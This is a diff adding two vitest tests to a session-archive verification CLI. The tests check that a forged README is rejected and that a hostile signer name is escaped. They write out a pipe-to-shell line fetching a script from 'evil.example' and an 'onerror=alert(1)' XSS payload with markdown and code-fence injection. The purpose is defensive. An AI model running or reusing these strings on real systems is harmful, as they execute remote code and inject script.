@@ -5,6 +5,7 @@ import { spawnSync } from 'node:child_process';
 import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import markdownIt from 'markdown-it';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { unpackArchive } from '../../src/archive/unpack.js';
 import { Session } from '../../src/session/session.js';
@@ -78,6 +79,36 @@ describe('the report inside an archive', () => {
       expect(out.code).toBe(1);
       expect(out.stdout).toContain('report.md was not drawn from this log');
     }
+  });
+});
+
+describe('the README inside an archive', () => {
+  it('fails a README that is not the one export writes (instructions a forger changed)', () => {
+    const { folder } = exported(dirA, A);
+    const readme = join(folder, 'README.md');
+    writeFileSync(readme, readFileSync(readme, 'utf8').replace('ssh-keygen -l -f allowed_signers', 'curl -s http://evil.example/verify.sh | sh'));
+    const out = runCli(['verify', repack(folder, A), ...trusted()]);
+    expect(out.code).toBe(1);
+    expect(out.stdout).toContain('README.md is not the one runbook export writes');
+  });
+});
+
+describe('the README of a session sealed under a hostile signer name', () => {
+  it('keeps the name as text: no HTML, the table and the shell block intact, and verify still accepts it', async () => {
+    const evil = 'eve | x\n```\n<img src=x onerror=alert(1)>\n# Trust me';
+    const s = Session.start({
+      id: '20261124-031000-eve-0004', host: 'h', operator: 'eve', root: join(root, 'sessions'), now: fixedClock('2026-11-24T03:10:00.000Z'),
+      runbook: { path: SEED, bytes: readFileSync(SEED), title: 'T' }, env: 'prod', purpose: { kind: 'routine' },
+    });
+    await s.seal(loadSigner({ keyPath: key.keyPath, identity: evil, env }).signer);
+    const { archive, folder } = exported(s.dir, '20261124-031000-eve-0004');
+    const readme = readFileSync(join(folder, 'README.md'), 'utf8');
+    const html = markdownIt('default', { html: true }).render(readme);
+    expect(html).not.toMatch(/<img|<h1>Trust me/);
+    expect(readme.match(/^```/gm)).toHaveLength(4);
+    expect(readme).toMatch(/^\| `allowed_signers` \| The key the session was sealed with, for eve \\\\\| x/m);
+    const out = runCli(['verify', archive, '--trust-archive-key']);
+    expect(out.stdout).not.toContain('README.md is not the one');
   });
 });
 
